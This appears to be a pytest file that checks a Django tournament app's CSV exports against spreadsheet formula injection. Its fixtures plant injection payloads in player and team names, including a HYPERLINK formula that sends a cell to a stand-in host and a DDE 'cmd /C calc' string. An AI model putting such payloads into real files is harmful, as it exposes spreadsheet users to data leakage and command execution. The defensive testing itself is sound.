"""Formula injection through names: every CSV the app serves neutralises text a spreadsheet would run.

Finding 6 of issue 20: the event's audit CSV (``/giai/<slug>/quan-ly/nhat-ky/?dinh-dang=csv``) wrote
``=HYPERLINK(…)``, ``@SUM(1,1)`` and ``+1+2`` from player and team names as they were (its writer
skipped the escaping the other exports used). The project now has one CSV writer
(:func:`scoring.reports.tabular.csv_table`); every export below goes through it, and a test fails if
any other module writes CSV itself.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
#: Names a person can type, each a formula in a spreadsheet.
PLAYERS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")',
    "@SUM(1,1)",
    "+1+2",
    "-2+3 Bình",
    "=cmd|' /C calc'!A0",
]
TEAMS = ["=1+1", "@A1", "+Giáp", "-Xóm", "=Đông"]
#: What a spreadsheet reads as the start of a formula (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


@pytest.fixture
def exports(django_user_model: Any) -> dict[str, tuple[Client, str]]:
    """Every CSV download, with a client allowed to fetch it."""
    from scoring.models import ClubRole, ClubRoleKind
    from scoring.services.people import club_create
    from scoring.services.sittings import sitting_open, van_record
    from tournaments.models import Registration, Table
    from tournaments.services.events import check_in, event_create, registration_add
    from tournaments.services.leaderboard import rebuild_leaderboard
    from tournaments.services.rounds import round_seat
    from tournaments.services.van import event_van_record

    organiser = django_user_model.objects.create_user("btc-csv", password="mat-khau-dai-123")
    staff = django_user_model.objects.create_user("staff-csv", password="mat-khau-dai-123", is_staff=True)
    club = club_create(name="@Làng Ngoài", slug="lang-csv").obj
    ClubRole.objects.create(user=organiser, club=club, role=ClubRoleKind.ORGANISER)
    sitting = sitting_open(
        game="to-tom-5",
        rules="luat-2005",
        mode="quang",
        club=club,
        created_by=organiser,
        players=PLAYERS,
        title="=Canh 1",
    ).obj
    for seq, winner in enumerate(PLAYERS[:3], start=1):
        van_record(
            sitting=sitting,
            seq=seq,
            record={"winner": winner, "cuoc": ["tom"]},
            idempotency_key=None,
            entered_by=organiser,
        )
    event = event_create(
        name="=Hội CSV", date=dt.date(2025, 2, 3), game="to-tom-5", rules="luat-2005", created_by=organiser
    )
    for name, team in zip(PLAYERS, TEAMS, strict=True):
        check_in(registration=registration_add(event=event, name=name, team=team, by=organiser), by=organiser)
    round_seat(event=event, method="random", seed=3)
    table = Table.objects.filter(event=event).select_related("sitting").first()
    seats = [s.name for s in table.sitting.seats.order_by("position")]
    event_van_record(
        table=table,
        seq=1,
        record={"winner": seats[0], "cuoc": ["tom"]},
        idempotency_key=None,
        entered_by=organiser,
    )
    rebuild_leaderboard(event_id=event.pk)
    reg = Registration.objects.filter(event=event).order_by("id").first()
    org, adm = Client(), Client()
    org.force_login(organiser)
    adm.force_login(staff)
    return {
        "event audit": (org, reverse("tournaments:audit", args=[event.slug]) + "?dinh-dang=csv"),
        "standings": (org, reverse("tournaments:export_standings", args=[event.slug])),
        "event statement": (org, reverse("tournaments:export_statement", args=[event.slug, reg.player_id])),
        "sitting ledger": (org, reverse("scoring:report_ledger_csv", args=[sitting.pk])),
        "sitting ván": (org, reverse("scoring:report_van_csv", args=[sitting.pk])),
        "sitting statement": (org, reverse("scoring:report_statement_csv", args=[sitting.pk, 1])),
        "sitting audit": (org, reverse("scoring:sitting_audit", args=[sitting.pk]) + "?dinh-dang=csv"),
        "club audit": (org, reverse("scoring:club_audit", args=[club.slug]) + "?dinh-dang=csv"),
        "club book statement": (
            org,
            reverse("scoring:club_statement_csv", args=[club.slug, sitting.seats.get(position=1).player_id]),
        ),
        "rule sets audit": (adm, reverse("scoring:rules_audit") + "?dinh-dang=csv"),
    }


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "no byte-order mark: Excel would garble the Vietnamese"
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def test_no_csv_cell_starts_a_formula(exports: dict[str, tuple[Client, str]], probe: Any) -> None:
    planted = [*PLAYERS, *TEAMS, "@Làng Ngoài", "=Canh 1", "=Hội CSV"]
    for what, (client, url) in exports.items():
        answer = client.get(url)
        assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv"), (
            what,
            answer.status_code,
        )
        cells = _cells(answer.getvalue())  # streamed or not
        if what != "rule sets audit":  # no rule set carries a planted name here; the header still counts
            assert any(p in cell for cell in cells for p in planted), f"{what}: no planted name in the CSV"
        for cell in cells:
            if any(p in cell for p in planted) or cell[:1] in FORMULA_START:
                probe.check(
                    cell[:1] not in FORMULA_START or bool(NUMBER.match(cell)),
                    f"{what}: a cell a spreadsheet would run: {cell!r}",
                )


def test_one_csv_writer_for_the_whole_project(probe: Any) -> None:
    writers = []
    for app in ("scoring", "tournaments", "totom_site"):
        for path in (ROOT / app).rglob("*.py"):
            if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text("utf-8")):
                writers.append(str(path.relative_to(ROOT)))
    writers.sort()
    # The organiser's player list is not an export: it writes the previewed names into its own
    # form's hidden field and reads them back with csv.reader when "register them" is pressed, so
    # they must come back exactly as typed (no formula escaping); nobody opens it in a spreadsheet.
    not_exports = {"tournaments/views/player_list.py"}
    exports = [w for w in writers if w not in not_exports]
    probe.check(
        exports == ["scoring/reports/tabular.py"], f"modules writing CSV exports themselves: {exports}"
    )
